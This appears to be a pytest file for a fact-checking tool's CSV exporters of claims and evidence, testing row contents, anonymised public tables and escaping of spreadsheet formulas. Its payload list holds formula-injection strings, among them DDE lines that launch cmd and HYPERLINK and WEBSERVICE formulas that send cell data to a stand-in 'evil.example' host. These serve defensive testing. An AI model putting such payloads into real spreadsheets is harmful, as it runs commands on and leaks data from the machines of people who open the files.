"""The tables: what they tell of each claim and each piece of evidence, and that no text in them is ever a formula."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from msgspec.structs import replace

from claims.reports.formats.cells import neutralised, restored
from claims.reports.formats.csv import CLAIMS, EVIDENCE, render_claims, render_evidence
from claims.reports.profiles import for_profile
from claims.vocabulary import Profile
from tests.claims.reports.reported import AT, claim, evidence, filled, finding, place, report, verdict
from tests.claims.reports.spreadsheet import opened

PAYLOADS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
    "'=1+1",
    "''=1+1",
    '"=1+1"',
    "'=1+1'!A0",
    "harmless;=1+1;",
    'harmless";=1+1;"',
    'harmless;"=1+1";',
    "harmless\t=1+1\t",
    "harmless\n=1+1\n",
    "harmless\r\n@SUM(1+1)",
    "harmless,=1+1,",
    'harmless",=1+1,"',
    "harmless|=1+1|",
    '=WEBSERVICE("https://evil.example/")',
    '=DDE("cmd";"/C calc";"x")',
)
LINES = str.maketrans({"\r": "\n", "\u2028": "\n", "\u2029": "\n"})


def read(table: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(table.decode("utf-8-sig"), newline="")))


def test_a_claim_is_one_row_with_its_finding_its_verdict_and_its_report() -> None:
    made = report(claim(), claim(17, standing="unchecked", state="open", findings=(), verdicts=(), evidence=()))
    table = render_claims(made)
    first, second = read(table)
    assert table.startswith(b"\xef\xbb\xbf")
    assert table.count(b"\r\n") == table.count(b"\n") == 3
    assert first["report"] == second["report"] == made.about.code
    assert (first["profile"], first["edition"], first["article"], first["title"]) == (
        "legal",
        "final",
        "12",
        "Tram line 4",
    )
    assert (first["claim"], first["standing"], first["standing_label"]) == ("C001", "sourced", "Sourced")
    assert (first["words"], first["speaker"]) == (place().exact, "Lena Arndt")
    assert (first["finding"], first["finding_reason"], first["found_by"]) == ("sourced", "primary", "Ben Okoro")
    assert (first["verdict"], first["agrees"], first["decided_by"]) == ("sourced", "yes", "Ada Verhoeven")
    assert (first["supports"], first["refutes"], first["retracted"], first["attempts"]) == ("1", "0", "1", "1")
    assert first["found_at"] == "2026-03-01 14:05:00"
    assert (second["claim"], second["finding"], second["verdict"]) == ("C017", "", "")


def test_evidence_is_one_row_each_what_was_retracted_as_well() -> None:
    made = report()
    stands, gone = read(render_evidence(made))
    assert (stands["claim"], stands["evidence"], stands["retracted"]) == ("C001", "1", "no")
    assert (stands["source_title"], stands["copy_name"], stands["quote_found"]) == (
        "Budget book",
        "Budget.txt",
        "exact",
    )
    assert (gone["evidence"], gone["retracted"], gone["retract_reason"]) == ("2", "yes", "The wrong year")
    assert (gone["confidential"], gone["description"]) == ("yes", "a nurse on nights")
    assert {row["report"] for row in (stands, gone)} == {made.about.code}


def test_evidence_for_words_that_were_replaced_says_so() -> None:
    before = replace(place("The old words"), version=0)
    here = place(state="reworded", carried_from=0)
    reworded = claim(places=(before, here), evidence=(evidence(place=0), evidence(place=1)))
    assert [row["outdated"] for row in read(render_evidence(report(reworded)))] == ["yes", "no"]


def test_in_public_evidence_is_for_the_words_that_stand_whatever_was_marked_last() -> None:
    """Words that were marked anew come after the repeats of the old ones."""
    places = (replace(place(), retired_at=AT), place("Tram line 4", repeat=True), place())
    marked = claim(places=places, evidence=(evidence(place=2),))
    (row,) = read(render_evidence(for_profile(report(marked), Profile.PUBLIC)))
    assert row["outdated"] == "no"


def test_a_finding_that_was_taken_back_by_a_reopening_is_not_told() -> None:
    (row,) = read(render_claims(report(claim(state="in_check", standing="unchecked"))))
    assert (row["finding"], row["second_read"], row["verdict"]) == ("", "", "")


def test_the_public_table_says_in_what_role_and_no_name() -> None:
    table = render_claims(for_profile(report(), Profile.PUBLIC))
    (row,) = read(table)
    assert (row["profile"], row["found_by"], row["decided_by"], row["reviewer"]) == ("public", "reviewer", "editor", "")
    assert b"Verhoeven" not in table
    assert b"Okoro" not in table


def test_the_same_report_is_the_same_bytes() -> None:
    assert render_claims(report()) == render_claims(report())
    assert render_evidence(report()) == render_evidence(report())


def test_a_report_without_claims_says_which_one_it_is() -> None:
    made = replace(report(), claims=())
    for table in (render_claims(made), render_evidence(made)):
        (row,) = read(table)
        assert (row["report"], row["claim"]) == (made.about.code, "")


def test_our_own_numbers_are_no_text() -> None:
    table = render_evidence(report()).decode()
    assert ',-6000.5,"yes"' in table
    assert ',12,"Tram line 4",1,' in table


@pytest.mark.parametrize("words", PAYLOADS)
def test_a_text_comes_back_from_its_cell(words: str) -> None:
    claims, evidences = read(render_claims(filled(words))), read(render_evidence(filled(words)))
    for name in ("desk", "title", "speaker", "words", "finding_note", "wording", "override_reason", "alone_reason"):
        assert restored(claims[0][name]) == words, name
    for name in ("quote", "locator", "note", "archive_url", "source_title", "source_url", "copy_name", "supplied_by"):
        assert restored(evidences[0][name]) == words, name
    assert restored(evidences[1]["expression"]) == words
    assert restored(evidences[1]["retract_reason"]) == words


HOSTILE = st.text(alphabet="=+-@＝－＠−'\"; |\t\r\n\u2028\u200b\ufeffa1,", max_size=9)


@given(HOSTILE | st.text())
def test_any_text_comes_back_and_none_begins_as_a_formula(words: str) -> None:
    cell = neutralised(words)
    assert restored(cell) == words
    for part in cell.replace("\t", ";").replace("\n", ";").replace("\r", ";").replace("|", ";").split(";"):
        assert not part.lstrip(' "\u200b\ufeff\u00a0').startswith(tuple("=+-@＝＋－＠−"))


@pytest.mark.parametrize("words", ["It’s 5-2, says she", "'Tis so", "a; b", "Line 1\nLine 2", "1 + 1 = 2", "5 %"])
def test_ordinary_words_are_left_alone(words: str) -> None:
    assert neutralised(words) == words


@pytest.fixture(scope="module")
def tables(tmp_path_factory: pytest.TempPathFactory) -> list[Path]:
    """Each payload in every field of a claims table, and of an evidence table."""
    folder = tmp_path_factory.mktemp("tables")
    made = [filled(words) for words in PAYLOADS]
    named = {f"claims-{place:02d}": render_claims(one) for place, one in enumerate(made)}
    named |= {f"evidence-{place:02d}": render_evidence(one) for place, one in enumerate(made)}
    for name, table in named.items():
        (folder / f"{name}.csv").write_bytes(table)
    return sorted(folder.iterdir())


@pytest.mark.parametrize("separators", ["44", "59", "9", "44/59/9", "124"])
def test_libreoffice_finds_no_formula_whatever_parts_its_cells(tables: list[Path], separators: str) -> None:
    sheets = opened(tables, tables[0].parent.parent, separators=separators)
    assert len(sheets) == 2 * len(PAYLOADS)
    assert [sheet.formulas for sheet in sheets if sheet.formulas] == []


def test_libreoffice_shows_every_text_and_takes_our_numbers_as_such(tables: list[Path]) -> None:
    sheets = opened(tables, tables[0].parent.parent)
    for sheet, words in zip(sheets[: len(PAYLOADS)], PAYLOADS, strict=True):
        row = dict(zip(CLAIMS, sheet.rows[1], strict=False))
        kinds = dict(zip(CLAIMS, sheet.kinds[1], strict=False))
        for name in ("title", "speaker", "words", "finding_note", "wording", "override_reason"):
            assert lines(restored(row[name])) == lines(words), (name, words)
        assert (row["number"], kinds["number"], kinds["words"]) == ("1", "float", "string")
    for sheet, words in zip(sheets[len(PAYLOADS) :], PAYLOADS, strict=True):
        row, second = (dict(zip(EVIDENCE, cells, strict=False)) for cells in sheet.rows[1:3])
        for name in ("quote", "locator", "note", "source_title"):
            assert lines(restored(row[name])) == lines(words), (name, words)
        assert second["result"] == "-6000.5"


def test_the_same_texts_without_the_apostrophe_would_be_formulas(tmp_path: Path) -> None:
    """So that the tests above are known to see one."""
    table = tmp_path / "open.csv"
    table.write_text("\n".join('"' + words.replace('"', '""') + '"' for words in PAYLOADS), encoding="utf-8")
    (sheet,) = opened([table], tmp_path)
    assert len(sheet.formulas) >= 4


def lines(words: str) -> str:
    """A spreadsheet keeps one kind of line end, and no mark of byte order."""
    return words.replace("\r\n", "\n").translate(LINES).replace("\ufeff", "")


def test_an_unverified_verdict_is_told_by_its_code() -> None:
    unsure = claim(
        standing="unverified", findings=(finding("unverified", "no_reply"),), verdicts=(verdict("unverified"),)
    )
    (row,) = read(render_claims(report(unsure)))
    assert (row["standing"], row["standing_label"], row["verdict"]) == ("unverified", "Unverified", "unverified")
